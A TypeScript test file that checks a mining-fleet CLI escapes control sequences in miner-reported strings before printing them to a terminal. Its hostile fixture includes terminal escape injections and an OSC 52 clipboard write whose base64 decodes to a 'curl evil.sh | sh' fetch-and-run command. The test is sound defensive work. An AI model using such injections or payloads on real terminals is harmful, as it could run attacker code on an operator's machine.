// Defect 7 of the hardening issue: miner strings reach an operator's terminal
// through `probe` and `scan`. A miner whose model and firmware strings carry
// colour codes, a window-title change and an OSC 52 clipboard write is read by
// the real CLI: no raw control byte reaches stdout or stderr, every one is
// written as an escape the operator can read.
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { MINER_MODELS, type MinerModel } from "../../sim/models.ts";
import { startSimSite } from "../../sim/site.ts";
import { cli } from "../helpers/cli.ts";

const HOST = "127.108.2.1";
const CLIPBOARD = "\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007";
const hostile: MinerModel = {
  ...MINER_MODELS["antminer-s19j-pro"]!,
  key: "hostile-strings",
  type: `Antminer S19\u001b[31m red\u001b[0m${CLIPBOARD}\u009b2J`,
  firmware: { miner: "\u001b]0;pwned\u0007bmminer 1.0", compileTime: "\r\u001b[2KMon Sep 26" },
};
/** C0 controls other than the line breaks the CLI writes itself, DEL, C1 controls. */
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

describe("device strings in the CLI are escaped for the terminal", () => {
  let sim: Awaited<ReturnType<typeof startSimSite>>;
  before(async () => {
    (MINER_MODELS as Record<string, MinerModel>)[hostile.key] = hostile;
    sim = await startSimSite({
      miners: [{ id: "hostile", host: HOST, port: 4028, model: hostile.key }],
      meters: [],
      seed: 5,
    });
  });
  after(async () => {
    await sim.stop();
    delete (MINER_MODELS as Record<string, MinerModel>)[hostile.key];
  });

  for (const args of [
    ["probe", "miner", `${HOST}:4028`],
    ["probe", "miner", `${HOST}:4028`, "--json"],
    ["scan", HOST, "--timeout", "1000"],
    ["scan", HOST, "--json", "--timeout", "1000"],
    ["scan", HOST, "--yaml", "--timeout", "1000"],
  ]) {
    test(args.join(" "), async () => {
      const r = await cli(args);
      assert.equal(r.code, 0, r.err);
      assert.doesNotMatch(r.out, RAW_CONTROL, JSON.stringify(r.out));
      assert.doesNotMatch(r.err, RAW_CONTROL, JSON.stringify(r.err));
      if (!args.includes("--yaml")) {
        // the model string is there, its escapes visible
        assert.match(r.out, /Antminer S19(\\x1b|\\u001b|\\\\u001b)\[31m red/);
        assert.match(r.out, /]52;c;Y3VybCBldmlsLnNoIHwgc2g=/);
      }
    });
  }
});
